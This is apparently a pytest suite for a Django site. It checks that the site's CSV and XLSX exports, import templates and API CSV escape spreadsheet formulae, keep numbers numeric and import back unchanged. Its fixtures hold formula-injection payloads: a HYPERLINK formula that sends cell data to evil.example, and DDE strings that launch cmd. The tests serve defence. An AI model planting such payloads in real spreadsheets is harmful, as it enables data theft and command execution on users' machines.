"""Every spreadsheet the site writes is safe to open: text that a spreadsheet would
run as a formula goes out with a quote in front (the admin's CSV and XLSX, the
import templates, the API's CSV), numbers stay numbers, and an exported file
imported again gives back the text itself."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from members.models import Jurisdiction
from tests.api_helpers import csv_rows
from tests.common.test_admin_spreadsheets import (
    CSV,
    XLSX,
    _export,
    _import,
    _row_types,
    _upload,
)
from tests.factories import JurisdictionFactory

pytestmark = pytest.mark.django_db

PATH = "/admin/members/jurisdiction/"
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
CMD = "+1+cmd|' /C calc'!A0"


@pytest.fixture
def booby_trapped():
    """A member whose texts are formulae; "penalolen" is the templates' example."""
    return JurisdictionFactory(
        slug="penalolen",
        name_en=HYPERLINK,
        name_es="Peñalolén",
        local_name=SUM,
        other_names=CMD,
        summary_en="-2+3",
        summary_es="=1+1",
        latitude=Decimal("-33.4"),
        longitude=Decimal("-70.5"),
        member_since=2020,
    )


def _csv_cells(content):
    header, row = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return dict(zip(header, row, strict=True))


def _check_escaped(cells):
    assert (
        cells["Name (English)"],
        cells["Name (Spanish)"],
        cells["Official local name"],
        cells["Other names"],
        cells["Summary (English)"],
    ) == ("'" + HYPERLINK, "Peñalolén", "'" + SUM, "'" + CMD, "'-2+3")


def test_the_csv_export_escapes_formulae_and_keeps_numbers(staff_client, booby_trapped):
    client = staff_client("Editors")

    cells = _csv_cells(_export(client, PATH, CSV))

    _check_escaped(cells)
    assert (cells["Latitude"], cells["Longitude"], cells["Member since"]) == (
        "-33.40000",
        "-70.50000",
        "2020",
    )


def test_the_xlsx_export_writes_formulae_as_text_and_numbers_as_numbers(
    staff_client, booby_trapped
):
    client = staff_client("Editors")

    sheet = openpyxl.load_workbook(io.BytesIO(_export(client, PATH, XLSX))).active

    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    assert [
        (row[name].value, row[name].data_type)
        for name in ("Name (English)", "Official local name", "Other names")
    ] == [("'" + HYPERLINK, "s"), ("'" + SUM, "s"), ("'" + CMD, "s")]
    assert [
        (row[name].value, row[name].data_type)
        for name in ("Latitude", "Longitude", "Member since")
    ] == [(-33.4, "n"), (-70.5, "n"), (2020, "n")]


@pytest.mark.parametrize(
    ("file_format", "name"), [(CSV, "members.csv"), (XLSX, "members.xlsx")]
)
def test_an_escaped_export_imports_back_as_the_original_text(
    staff_client, booby_trapped, file_format, name
):
    client = staff_client("Editors")
    exported = _export(client, PATH, file_format)
    Jurisdiction.objects.filter(pk=booby_trapped.pk).update(name_en="Peñalolén")

    preview = _import(client, PATH, exported, file_format=file_format, name=name)

    assert _row_types(preview) == ["update"]
    assert Jurisdiction.objects.values_list(
        "name_en", "local_name", "other_names", "summary_en", "latitude"
    ).get() == (HYPERLINK, SUM, CMD, "-2+3", Decimal("-33.40000"))
    again = _upload(
        client,
        PATH,
        _export(client, PATH, file_format),
        file_format=file_format,
        name=name,
    )
    assert _row_types(again) == ["skip"]


def test_a_quote_before_plain_text_is_kept(staff_client, booby_trapped):
    client = staff_client("Editors")
    cells = _csv_cells(_export(client, PATH, CSV))
    cells["Official local name"] = "'quoted"
    out = io.StringIO()
    csv.writer(out).writerows([list(cells), list(cells.values())])

    _import(client, PATH, out.getvalue().encode())

    assert Jurisdiction.objects.get().local_name == "'quoted"


def test_the_import_templates_escape_formulae(staff_client, booby_trapped):
    client = staff_client("Editors")

    csv_template = client.get(f"{PATH}import/template.csv")
    xlsx_template = client.get(f"{PATH}import/template.xlsx")

    cells = _csv_cells(csv_template.content)
    _check_escaped(cells)
    assert cells["Latitude"] == "-33.40000"
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_template.content))["Records"]
    assert (sheet["B2"].value, sheet["B2"].data_type) == ("'" + HYPERLINK, "s")


def test_the_api_csv_escapes_formulae_and_keeps_numbers(client, booby_trapped):
    response = client.get("/api/v1/jurisdictions/", {"format": "csv"})

    (row,) = csv_rows(response)
    assert (
        row["name_en"],
        row["local_name"],
        row["summary_en"],
        row["summary_es"],
        row["latitude"],
        row["longitude"],
        row["member_since"],
    ) == (
        "'" + HYPERLINK,
        "'" + SUM,
        "'-2+3",
        "'=1+1",
        "-33.4",
        "-70.5",
        "2020",
    )


def test_the_preview_shows_formulae_as_stored_without_the_quote(
    staff_client, booby_trapped
):
    client = staff_client("Editors")
    cells = _csv_cells(_export(client, PATH, CSV))
    cells["Name (Spanish)"] = "=1+1"
    out = io.StringIO()
    csv.writer(out).writerows([list(cells), list(cells.values())])

    preview = _upload(client, PATH, out.getvalue().encode())

    html = preview.content.decode()
    assert _row_types(preview) == ["update"]
    assert "<del>Peñalolén</del><ins>=1+1</ins>" in html
    assert "<span>=HYPERLINK(&quot;https://evil.example/?&quot;" in html
    assert "&#x27;=" not in html.split('class="import-preview"')[1]
